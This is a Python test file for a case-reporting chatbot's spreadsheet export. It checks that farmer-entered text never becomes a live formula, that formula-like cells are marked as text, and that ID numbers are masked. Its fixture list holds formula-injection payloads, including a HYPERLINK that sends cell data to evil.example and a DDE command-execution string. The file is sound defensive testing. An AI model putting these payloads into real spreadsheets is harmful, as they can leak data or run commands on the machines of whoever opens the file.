"""The case ledger never carries a live formula: whatever a farmer typed is written as text."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from cadrebot.handlers.conversation import ConversationService
from cadrebot.handlers.export import cases_workbook
from cadrebot.handlers.forms import default_registry
from cadrebot.handlers.ports import Case
from tests.support.clock import at

from .test_turns import ADMIN, make_cadre, service, turn  # noqa: F401  (fixture)

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?id="&H2,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
)


def _case(number: int, text: str, *, case_type: str = "risk_report") -> Case:
    when = at(2026, 5, 12)
    return Case(
        id=number,
        number=f"FX-2026-{number:06d}",
        case_type=case_type,
        status="已受理",
        fields={
            "name": text,
            "id_number": "36072119850312461X",
            "risk_types": [text, "因病"],
            "description": text,
            text[:20] or "x": text,  # a field no form declares (older data): its own column
        },
        submitter_id=1,
        township=text,
        village="长岭村",
        submitted_at=when,
        updated_at=when,
    )


def _cells(data: bytes) -> list[tuple[str | None, object]]:
    workbook = load_workbook(io.BytesIO(data))
    return [
        (cell.data_type, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.mark.parametrize("unmasked", [False, True])
def test_no_exported_cell_is_a_formula_and_text_stays_literal(unmasked: bool) -> None:
    cases = [_case(i, text) for i, text in enumerate(PAYLOADS, 1)]
    cases.append(_case(99, "=1+1", case_type="=unknown"))  # a type no form knows
    cells = _cells(cases_workbook(cases, default_registry(), unmasked=unmasked))
    assert cells
    assert [value for kind, value in cells if kind == "f"] == []
    values = {value for _, value in cells}
    for payload in PAYLOADS:
        if payload.startswith("\r"):
            continue  # XML normalises a leading CR; it is text either way
        assert payload in values, payload


def test_formula_like_text_is_marked_as_text_for_spreadsheet_programs() -> None:
    """quotePrefix: Excel/WPS keep the cell text even when a user edits it."""
    data = cases_workbook([_case(1, "=1+1")], default_registry(), unmasked=False)
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    marked = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=1+1"]
    assert marked and all(cell.quotePrefix for cell in marked)


def test_control_characters_do_not_break_the_export() -> None:
    data = cases_workbook([_case(1, "说明\x01\x08文字")], default_registry(), unmasked=False)
    assert "说明文字" in {value for _, value in _cells(data)}


def test_cadre_export_of_a_filed_report_has_no_formula_and_no_id(
    service: ConversationService,  # noqa: F811
) -> None:
    make_cadre(service)
    turn(service, "/report")
    answers = (
        "张三",
        "360702199001011232",
        "13812345678",
        "大塘埠镇",
        "=1+1",
        "4",
        "监测户",
        "1,4",
        '=HYPERLINK("http://x/?id="&H2,"点击查看") 身份证3607 0219 9001 0112 32',
        "3000",
        "是",
        "确认提交",
    )
    for answer in answers:
        turn(service, answer)
    assert "已受理" in turn(service, "/mycases").text
    (exported,) = turn(service, "/export", "cadre").files
    cells = _cells(exported.data)
    assert [value for kind, value in cells if kind == "f"] == []
    text = "\n".join(str(value) for _, value in cells)
    assert "=1+1" in text and "=HYPERLINK(" in text
    assert "19900101" not in text.replace(" ", "")
    assert "3607**********1232" in text
